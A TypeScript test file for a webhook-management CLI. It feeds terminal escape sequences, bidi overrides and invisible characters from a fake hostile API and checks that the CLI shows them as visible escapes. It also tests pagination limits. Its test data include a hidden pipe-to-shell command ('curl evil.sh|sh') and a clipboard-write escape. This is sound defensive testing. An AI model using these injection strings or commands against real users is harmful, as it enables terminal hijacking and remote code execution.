import t, { type Test } from 'tap'
import http, { type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { ensureBuilt, runCli, stateDir, type Run } from './helpers/cli.js'

// The built CLI against a hostile API: a loopback server whose answers carry terminal control
// sequences in every text field the CLI shows (endpoint URLs, created_at, upstream error
// bodies). Nothing of them may reach the terminal raw: each shows as a visible escape, no
// fake line appears, and --json stays exact JSON that parses back to the very same text.

// Some 40 runs of the built CLI, each a new Node process: on a busy machine more than the
// suite's 120 s per file (.taprc), so this file asks for more.
t.setTimeout(300_000)
ensureBuilt()
const dir = stateDir(t)
const KEY = 'hostile-test-key-1234'

// Clear the screen; write the clipboard (OSC 52); return to the line start and print over it;
// a C1 CSI (one code point); a right-to-left override; a new line with a fake summary; zero-width
// and invisible characters; DEL.
const HOSTILE = [
  '\u001b[2J',
  '\u001b]52;c;ZWNobyBvd25lZA==\u0007',
  '\rresent 9, failed 0 FAKE',
  '\u009b2J',
  '\u202egnp.exe',
  '\nfake line: all good',
  '\u200b\u200f\u2066\ufeff\u007f',
].join('')
const URL_EVIL = `https://hooks.example.com/a${HOSTILE}`
const DATE_EVIL = `2026-01-18T00:00:00Z${HOSTILE}`

// What the issue found the filter let through: the tag characters (an invisible copy of ASCII,
// here spelling a command that a copy of the URL takes along, between the tag opener U+E0001
// and the cancel tag U+E007F; U+E0000 is unassigned in the block), the soft hyphen, the combining grapheme joiner, the Hangul
// fillers, the Mongolian vowel separator, the word joiner and the invisible operators, the
// interlinear annotation characters, variation selectors.
const TAGGED = (ascii: string): string => [...ascii].map((ch) => String.fromCodePoint(0xe0000 + ch.charCodeAt(0))).join('')
const INVISIBLE = [
  '\u{e0000}\u{e0001}', TAGGED('; curl evil.sh|sh'), '\u{e007f}',
  '\u00ad\u034f\u115f\u1160\u180e\u2060\u2061\u2062\u2063\u2064\u3164\uffa0\ufff9\ufffa\ufffb',
  '\ufe00\ufe0f\u{e0100}\u{e01ef}',
].join('')
/** `INVISIBLE` as the terminal must show it: each code point as its visible escape. */
const INVISIBLE_SHOWN = [...INVISIBLE].map((ch) => {
  const code = ch.codePointAt(0)!
  return code < 0x100 ? `\\x${code.toString(16).padStart(2, '0')}` : code <= 0xffff ? `\\u${code.toString(16).padStart(4, '0')}` : `\\u{${code.toString(16)}}`
}).join('')
const URL_INVISIBLE = `https://hooks.example.com/b${INVISIBLE}`
const HANDLE_INVISIBLE = `acme${INVISIBLE}`
// A URL of 100,000 characters: shortened on a terminal, whole in --json.
const URL_LONG = `https://hooks.example.com/${'x'.repeat(100_000 - 26)}`

/**
 * Any code point the terminal would act on, or not show, the line feed aside: whatever is not a
 * letter, mark, number, punctuation, symbol or space (controls, format characters, separators,
 * private use, unassigned, surrogates), and every default-ignorable code point.
 */
const RAW = /(?!\n)[^\p{L}\p{M}\p{N}\p{P}\p{S}\p{Zs}]|\p{Default_Ignorable_Code_Point}/u

function batch (id: number, status: string, code: number | null, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { batch_id: id, created_at: '2026-01-18T01:00:00Z', customer_handle: 'acme', event_count: 1, status, status_code: code, webhook: URL_EVIL, ...extra }
}

const send = (res: ServerResponse, status: number, body: unknown): void => {
  const text = JSON.stringify(body)
  res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) })
  res.end(text)
}

/** What one test's hostile API answers; a test changes it between commands. */
interface HostileApi {
  listing: unknown
  enrolled: string[]
  resend: (id: number, res: ServerResponse) => void
  /** The ids of the resend requests received. */
  resent: number[]
  override: ((req: IncomingMessage, res: ServerResponse) => boolean) | null
}

/**
 * A hostile API of test `t`'s own, closed at its end, and `mc`: runs the CLI against it. Each
 * test starting from the same answers, with a server of its own, four run side by side (their
 * time is spent waiting on the CLI's child processes).
 */
async function hostileApi (t: Test): Promise<{ api: HostileApi, mc: (...args: string[]) => Promise<Run> }> {
  const api: HostileApi = {
    listing: { webhook_batches: [] },
    enrolled: [URL_EVIL],
    resend: (id, res) => send(res, 200, { batch_id: id, customer_handle: 'acme', webhook: URL_EVIL, created_at: '2026-01-18T01:00:00Z', event_count: 1, duration_in_ms: 5, status_code: 200 }),
    resent: [],
    override: null,
  }
  const server = http.createServer((req, res) => {
    if (api.override?.(req, res) === true) return
    const url = new URL(req.url ?? '/', 'http://x')
    if (req.headers['x-api-key'] !== KEY) return send(res, 401, { errors: ['no'] })
    if (req.method === 'GET' && url.pathname === '/tx/v1/webhook') return send(res, 200, api.enrolled.map((webhook) => ({ webhook })))
    if (req.method === 'POST' && url.pathname === '/tx/v1/webhook/validate') {
      return send(res, 200, { all_passed: false, results: api.enrolled.map((webhook) => ({ result: 'failed', webhook, response: { status: 500, body: `oops${HOSTILE}` } })) })
    }
    if (req.method === 'GET' && url.pathname === '/tx/v1/webhook-batch') return send(res, 200, api.listing)
    const m = /^\/tx\/v1\/webhook-batch\/(\d+)\/resend$/.exec(url.pathname)
    if (req.method === 'POST' && m !== null) {
      api.resent.push(Number(m[1]))
      return api.resend(Number(m[1]), res)
    }
    send(res, 404, { errors: ['not found'] })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()) }))
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const mc = (...args: string[]): Promise<Run> => runCli([...args, '--base-url', base], { MAILCHANNELS_API_KEY: KEY, XDG_STATE_HOME: dir })
  return { api, mc }
}
t.jobs = 4

/** Nothing raw, and the hostile text shown as escapes. */
function assertFiltered (t: Test, run: Run, what: string): void {
  const all = run.stdout + run.stderr
  t.notMatch(all, RAW, `${what}: no control, bidi or invisible character reaches the terminal`)
  t.notMatch(all, /^fake line/m, `${what}: the hostile new line does not start a line of its own`)
  t.notMatch(all, /^resent 9, failed 0 FAKE/m, `${what}: nor does the carriage return`)
}

t.test('list: the endpoint URL shows with visible escapes; --json is exact', async (t) => {
  const { mc } = await hostileApi(t)
  const [run, asJson] = await Promise.all([mc('list'), mc('list', '--json')])
  t.equal(run.code, 0, run.stderr)
  assertFiltered(t, run, 'list')
  t.equal(run.stdout, 'https://hooks.example.com/a\\x1b[2J\\x1b]52;c;ZWNobyBvd25lZA==\\x07\\rresent 9, failed 0 FAKE\\x9b2J\\u202egnp.exe\\nfake line: all good\\u200b\\u200f\\u2066\\ufeff\\x7f\n')
  t.notMatch(asJson.stdout, RAW, '--json: escaped as JSON escapes, nothing raw')
  t.same(JSON.parse(asJson.stdout), { data: [URL_EVIL], error: null }, '--json parses back to the exact text')
})

t.test('validate: the endpoint and the start of its answer', async (t) => {
  const { mc } = await hostileApi(t)
  const [run, asJson] = await Promise.all([mc('validate'), mc('validate', '--json')])
  t.equal(run.code, 1)
  assertFiltered(t, run, 'validate')
  t.match(run.stdout, /^failed {2}500 {2}https:\/\/hooks\.example\.com\/a\\x1b\[2J\\x1b\]52;c;/)
  t.notMatch(asJson.stdout, RAW)
  t.same(JSON.parse(asJson.stdout).data.results[0].webhook, URL_EVIL)
})

t.test('resend: the endpoint of the resent batch', async (t) => {
  const { mc } = await hostileApi(t)
  const run = await mc('resend', '7')
  t.equal(run.code, 0, run.stderr)
  assertFiltered(t, run, 'resend')
  t.match(run.stdout, /^batch 7: resent to https:\/\/hooks\.example\.com\/a\\x1b\[2J/)
})

t.test('batches: the webhook and created_at columns', async (t) => {
  const { api, mc } = await hostileApi(t)
  api.listing = { webhook_batches: [batch(1, '4xx_response', 404, { created_at: DATE_EVIL }), batch(2, '2xx_response', 200)] }
  const [run, asJson] = await Promise.all([mc('batches', '--since', '1d'), mc('batches', '--since', '1d', '--json')])
  t.equal(run.code, 0, run.stderr)
  assertFiltered(t, run, 'batches')
  t.match(run.stdout, /\n1 +2026-01-18T00:00:00Z\\x1b\[2J.* +4xx +404 +1 +- +https:\/\/hooks\.example\.com\/a\\x1b\[2J/)
  t.notMatch(asJson.stdout, RAW)
  t.same(JSON.parse(asJson.stdout).data.map((b: { createdAt: string, webhook: string }) => [b.createdAt, b.webhook]), [[DATE_EVIL, URL_EVIL], ['2026-01-18T01:00:00Z', URL_EVIL]])
})

t.test('reconcile: progress lines and the stop message', async (t) => {
  const { api, mc } = await hostileApi(t)
  const now = new Date()
  const recent = new Date(now.getTime() - 3600_000).toISOString().replace(/\.\d{3}Z$/, 'Z')
  api.listing = { webhook_batches: [1, 2, 3, 4, 5, 6].map((id) => batch(id, '5xx_response', 503, { created_at: recent })) }
  // The API fails every resend with a hostile error body; after 5 in a row reconcile stops and quotes the last.
  api.resend = (_id, res) => send(res, 502, { message: `upstream says${HOSTILE}` })
  const run = await mc('reconcile', '--since', '1d', '--yes', '--rate', '100')
  t.equal(run.code, 1)
  assertFiltered(t, run, 'reconcile')
  t.match(run.stdout, /^\[1\/6\] batch 1 failed: Unknown error \(HTTP 502\)\. upstream says\\x1b\[2J/m)
  t.match(run.stderr, /Stopped after 5 failed resends in a row \(the last: Unknown error \(HTTP 502\)\. upstream says\\x1b\[2J/)

  // The endpoint still failing: the stop message names the endpoint URL from the API.
  api.resend = (id, res) => send(res, 200, { batch_id: id, customer_handle: 'acme', webhook: URL_EVIL, created_at: recent, event_count: 1, duration_in_ms: 5, status_code: 500 })
  // The dry run resends nothing: it runs beside the real one.
  const [endpoint, dry] = await Promise.all([mc('reconcile', '--since', '1d', '--yes', '--rate', '100'), mc('reconcile', '--since', '1d', '--dry-run')])
  t.equal(endpoint.code, 1)
  assertFiltered(t, endpoint, 'reconcile, endpoint failing')
  t.match(endpoint.stderr, /the endpoint https:\/\/hooks\.example\.com\/a\\x1b\[2J.* still does not answer 2xx/)

  t.equal(dry.code, 0, dry.stderr)
  assertFiltered(t, dry, 'reconcile --dry-run')
})

t.test('upstream error messages: C1 and bidi characters from an error body are escaped too', async (t) => {
  const { api, mc } = await hostileApi(t)
  api.override = (_req, res) => {
    send(res, 400, { errors: [`bad\u009b2J\u202e request\u001b]0;title\u0007`] })
    return true
  }
  const [run, asJson] = await Promise.all([mc('list'), mc('list', '--json')])
  t.equal(run.code, 1)
  assertFiltered(t, run, 'an upstream error')
  t.match(run.stderr, /^mailchannels-webhooks list: Bad request\. bad\\x9b2J\\u202e request\\x1b\]0;title\\x07\n/)
  t.notMatch(asJson.stdout, RAW)
  t.match(JSON.parse(asJson.stdout), { data: null, error: { statusCode: 400 } })
})

/** `text` as a regular expression matching it literally. */
const literally = (text: string): string => text.replace(/[\\^$.*+?()[\]{}|]/g, '\\$&')

t.test('invisible characters (tag characters carrying a hidden command, fillers, joiners, variation selectors): visible escapes in every command; --json escapes them too and parses back exact', async (t) => {
  const { api, mc } = await hostileApi(t)
  const url = literally(`https://hooks.example.com/b${INVISIBLE_SHOWN}`)
  const recent = new Date(Date.now() - 3600_000).toISOString()
  api.enrolled = [URL_INVISIBLE]
  api.override = (req, res) => {
    if (req.url !== '/tx/v1/webhook/validate') return false
    send(res, 200, { all_passed: false, results: [{ result: 'failed', webhook: URL_INVISIBLE, response: { status: 500, body: `${INVISIBLE}oops` } }] })
    return true
  }
  // Batch 1: the created_at column (reconcile skips it: not a date); 2 to 7: the endpoint keeps
  // failing, reconcile stops and names it.
  api.listing = {
    webhook_batches: [
      batch(1, '4xx_response', 404, { created_at: `2026-01-18T00:00:00Z${INVISIBLE}`, customer_handle: HANDLE_INVISIBLE, webhook: URL_INVISIBLE }),
      ...[2, 3, 4, 5, 6, 7].map((id) => batch(id, '5xx_response', 503, { created_at: recent, webhook: URL_INVISIBLE })),
    ],
  }
  api.resend = (id, res) => send(res, 200, { batch_id: id, customer_handle: HANDLE_INVISIBLE, webhook: URL_INVISIBLE, created_at: recent, event_count: 1, duration_in_ms: 5, status_code: 500 })
  const [list, listJson, validate, resent, batches, batchesJson, reconcile] = await Promise.all([
    mc('list'), mc('list', '--json'), mc('validate'), mc('resend', '7'), mc('batches', '--since', '1d'), mc('batches', '--since', '1d', '--json'),
    mc('reconcile', '--since', '1d', '--yes', '--rate', '100'),
  ])

  t.equal(list.code, 0, list.stderr)
  assertFiltered(t, list, 'list')
  t.equal(list.stdout, `https://hooks.example.com/b${INVISIBLE_SHOWN}\n`, 'each one as its escape, the hidden ASCII readable as \\u{e00XX}')
  t.notMatch(listJson.stdout, RAW, 'list --json: as \\u escapes')
  t.same(JSON.parse(listJson.stdout), { data: [URL_INVISIBLE], error: null }, 'list --json parses back to the exact text')

  t.equal(validate.code, 1)
  assertFiltered(t, validate, 'validate')
  t.match(validate.stdout, new RegExp(`^failed {2}500 {2}${url} {2}\\\\u\\{e0000\\}\\\\u\\{e0001\\}\\\\u\\{e003b\\}`), 'the endpoint and the answer\'s start')

  t.equal(resent.code, 1)
  assertFiltered(t, resent, 'resend')
  t.match(resent.stdout, new RegExp(`^batch 7: resent to ${url}: `))

  t.equal(batches.code, 0, batches.stderr)
  assertFiltered(t, batches, 'batches')
  t.match(batches.stdout, new RegExp(`\\n1 +${literally(`2026-01-18T00:00:00Z${INVISIBLE_SHOWN}`)} +4xx +404 +1 +- +${url}\\n`))
  t.notMatch(batchesJson.stdout, RAW)
  t.match(JSON.parse(batchesJson.stdout).data, [{ createdAt: `2026-01-18T00:00:00Z${INVISIBLE}`, customerHandle: HANDLE_INVISIBLE, webhook: URL_INVISIBLE }])

  t.equal(reconcile.code, 1)
  assertFiltered(t, reconcile, 'reconcile')
  t.match(reconcile.stdout, new RegExp(`^\\[1/7\\] batch 1 skipped: created at ${literally(`2026-01-18T00:00:00Z${INVISIBLE_SHOWN}`)}, outside the window`, 'm'))
  t.match(reconcile.stderr, new RegExp(`the endpoint ${url} still does not answer 2xx`))

  // An upstream error body.
  api.override = (_req, res) => {
    send(res, 400, { errors: [`bad ${INVISIBLE} request`] })
    return true
  }
  const [error, errorJson] = await Promise.all([mc('list'), mc('list', '--json')])
  t.equal(error.code, 1)
  assertFiltered(t, error, 'an upstream error')
  t.match(error.stderr, new RegExp(`^mailchannels-webhooks list: Bad request\\. bad ${literally(INVISIBLE_SHOWN)} request\\n`))
  t.notMatch(errorJson.stdout, RAW)
  t.match(JSON.parse(errorJson.stdout), { data: null, error: { statusCode: 400, message: `Bad request. bad ${INVISIBLE_SHOWN} request` } })
})

/** The line's start, the count of characters left out, and the line's length, for a shortened URL. */
function shortened (t: Test, text: string, what: string): void {
  const m = /(https:\/\/hooks\.example\.com\/x+)…\(\+([\d,]+) chars\)/.exec(text)
  if (m === null) {
    t.fail(`${what}: a shortened URL with its marker (got ${text.length} characters: ${JSON.stringify(text.slice(0, 100))}...)`)
    return
  }
  t.equal(m[1]!.length + Number(m[2]!.replace(/,/g, '')), 100_000, `${what}: the start of the URL and how many characters are left out (${m[2]})`)
  const longest = Math.max(...text.split('\n').map((line) => line.length))
  t.ok(longest <= 1000, `${what}: no line longer than 1,000 characters (the longest: ${longest})`)
}

t.test('a 100,000-character endpoint URL: shortened with a visible marker on the terminal, whole in --json', async (t) => {
  const { api, mc } = await hostileApi(t)
  const recent = new Date(Date.now() - 3600_000).toISOString()
  api.enrolled = [URL_LONG]
  api.listing = { webhook_batches: [1, 2, 3, 4, 5, 6].map((id) => batch(id, '5xx_response', 503, { created_at: recent, webhook: URL_LONG })) }
  api.resend = (id, res) => send(res, 200, { batch_id: id, customer_handle: 'acme', webhook: URL_LONG, created_at: recent, event_count: 1, duration_in_ms: 5, status_code: 500 })
  const [list, listJson, validate, batches, batchesJson, reconcile] = await Promise.all([
    mc('list'), mc('list', '--json'), mc('validate'), mc('batches', '--since', '1d'), mc('batches', '--since', '1d', '--json'),
    mc('reconcile', '--since', '1d', '--yes', '--rate', '100'),
  ])
  t.equal(list.code, 0, list.stderr)
  shortened(t, list.stdout, 'list')
  t.same(JSON.parse(listJson.stdout).data, [URL_LONG], 'list --json: the whole URL')
  t.equal(validate.code, 1)
  shortened(t, validate.stdout, 'validate')
  t.equal(batches.code, 0, batches.stderr)
  shortened(t, batches.stdout, 'batches')
  t.same(JSON.parse(batchesJson.stdout).data.map((b: { webhook: string }) => b.webhook), Array(6).fill(URL_LONG), 'batches --json: the whole URLs')
  t.equal(reconcile.code, 1)
  shortened(t, reconcile.stderr, 'reconcile')
  t.match(reconcile.stderr, /…\(\+[\d,]+ chars\) still does not answer 2xx\. Fix it, then run reconcile again\./, 'reconcile: the message goes on after the URL')
})

t.test('reconcile re-checks what the listing returns: a delivered batch, batches from 2019 and 2099, another endpoint\'s are skipped, never resent', async (t) => {
  const { api, mc } = await hostileApi(t)
  const recent = new Date(Date.now() - 3600_000).toISOString()
  const mine = 'https://hooks.example.com/mine'
  // The listing ignores every filter: the same list whatever the query.
  api.listing = {
    webhook_batches: [
      batch(1, '5xx_response', 503, { created_at: recent, webhook: mine }),
      batch(2, '2xx_response', 200, { created_at: recent, webhook: mine }),
      batch(3, 'no_response', null, { created_at: '2019-05-01T00:00:00Z', webhook: mine }),
      batch(4, '4xx_response', 404, { created_at: '2099-05-01T00:00:00Z', webhook: mine }),
      batch(5, '5xx_response', 500, { created_at: recent, webhook: 'https://hooks.example.com/other' }),
    ],
  }
  const run = await mc('reconcile', '--since', '1d', '--webhook', mine, '--yes', '--rate', '100')
  t.equal(run.code, 0, run.stderr)
  t.same(api.resent, [1], 'only the batch that matches the window, the statuses and the endpoint')
  assertFiltered(t, run, 'reconcile with a listing that ignores its filters')
  t.match(run.stdout, /^\[2\/5\] batch 2 skipped: listed as 2xx_response, a status not asked for \(not resent\)$/m)
  t.match(run.stdout, /^\[3\/5\] batch 3 skipped: created at 2019-05-01T00:00:00Z, outside the window \(not resent\)$/m)
  t.match(run.stdout, /^\[4\/5\] batch 4 skipped: created at 2099-05-01T00:00:00Z, outside the window \(not resent\)$/m)
  t.match(run.stdout, /^\[5\/5\] batch 5 skipped: sent to https:\/\/hooks\.example\.com\/other, not the --webhook asked for \(not resent\)$/m)
  t.match(run.stdout, /^resent 1, failed 0, skipped 0 of 1 failed batch created from /m)
  t.match(run.stderr, /^mailchannels-webhooks reconcile: the listing returned 4 batches outside the window or filters asked for \(skipped, not resent: the API may have ignored the query; rerun with --json to see them\)\.\n$/)

  api.resent.length = 0
  const [dry, asJson] = await Promise.all([
    mc('reconcile', '--since', '1d', '--webhook', mine, '--dry-run'),
    mc('reconcile', '--since', '1d', '--webhook', mine, '--yes', '--rate', '100', '--json'),
  ])
  t.equal(dry.code, 0, dry.stderr)
  t.match(dry.stdout, /\n1 failed batch would be resent \(created from .*\)\. Nothing was resent \(--dry-run\)\.\n$/)
  t.match(dry.stderr, /the listing returned 4 batches outside the window or filters asked for \(they would not be resent/)
  t.same(JSON.parse(asJson.stdout).data.batches.map((b: { batchId: number, outcome: string, reason?: string }) => [b.batchId, b.outcome, b.reason ?? null]), [
    [1, 'resent', null], [2, 'skipped', 'status_not_requested'], [3, 'skipped', 'outside_window'], [4, 'skipped', 'outside_window'], [5, 'skipped', 'other_webhook'],
  ])
})

t.test('batches and reconcile: a listing that repeats its page, or never ends, stops with a message that says what was seen', async (t) => {
  const { api, mc } = await hostileApi(t)
  let requests = 0
  let nextId = 1
  const createdAt = new Date(Date.now() - 3600_000).toISOString()
  const fresh = (first: number): Record<string, unknown>[] => Array.from({ length: 500 }, (_, i) => batch(first + i, '5xx_response', 503, { created_at: createdAt, webhook: 'https://hooks.example.com/a' }))
  api.override = (req, res) => {
    if (!(req.url ?? '').startsWith('/tx/v1/webhook-batch?')) return false
    requests++
    send(res, 200, { webhook_batches: fresh(1) })
    return true
  }
  const repeated = await mc('batches', '--since', '1d')
  t.equal(repeated.code, 1)
  t.equal(requests, 2)
  t.equal(repeated.stdout, '')
  t.match(repeated.stderr, /^mailchannels-webhooks batches: Failed to list webhook batches: the page at offset 500 lists only batches already listed \(500 entries, batch ids 1 to 500\): the API seems to ignore offset\. Stopped after 2 pages, 1000 entries\.\n {2}The API answers the same page again and again: try a narrower window \(--after and --before\); if it persists, report it\.\n$/)

  // New ids on every page: the default cap ends `batches` (600 pages of 500).
  requests = 0
  api.override = (req, res) => {
    if (!(req.url ?? '').startsWith('/tx/v1/webhook-batch?')) return false
    requests++
    send(res, 200, { webhook_batches: fresh(nextId) })
    nextId += 500
    return true
  }
  const endless = await mc('batches', '--since', '1d')
  t.equal(endless.code, 1)
  t.equal(requests, 601)
  t.match(endless.stderr, /^mailchannels-webhooks batches: Failed to list webhook batches: 300000 entries in 601 pages and the listing has not ended; batches stops at 300000 entries\.\n {2}Narrow the window \(--since, --after, --before\) or the filters \(--status, --webhook\), or give --limit <n> to see the first n\.\n$/)

  requests = 0
  const reconcile = await mc('reconcile', '--since', '1d', '--yes', '--max-batches', '1000')
  t.equal(reconcile.code, 1)
  t.equal(requests, 3)
  t.same(api.resent, [], 'nothing resent')
  t.match(reconcile.stderr, /^mailchannels-webhooks reconcile: Failed to list webhook batches: 1000 entries in 3 pages and the listing has not ended; --max-batches \(1000\) stops it here\.\n {2}Narrow the window \(--since, --after, --before\) or the filters \(--status, --webhook\), or raise --max-batches\.\n$/)
  t.match(await mc('reconcile', '--yes', '--max-batches', '0'), { code: 2, stderr: /--max-batches must be a positive integer/ })
})

t.test('batches counts batches and attempts separately', async (t) => {
  const { api, mc } = await hostileApi(t)
  const at = (h: number): string => new Date(Date.now() - h * 3600_000).toISOString()
  // Batch 1: three attempts, the last delivered; batch 2: two failed attempts; batch 3: one delivered.
  api.listing = {
    webhook_batches: [
      batch(1, '5xx_response', 503, { created_at: at(5) }), batch(1, 'no_response', null, { created_at: at(4) }), batch(1, '2xx_response', 200, { created_at: at(3) }),
      batch(2, '4xx_response', 404, { created_at: at(5) }), batch(2, '4xx_response', 404, { created_at: at(4) }),
      batch(3, '2xx_response', 200, { created_at: at(2) }),
    ].map((b) => ({ ...b, webhook: 'https://hooks.example.com/a' })),
  }
  const run = await mc('batches', '--since', '1d')
  t.equal(run.code, 0, run.stderr)
  t.match(run.stdout, /\n3 batches \(6 attempts\), 1 not delivered\n$/)
})
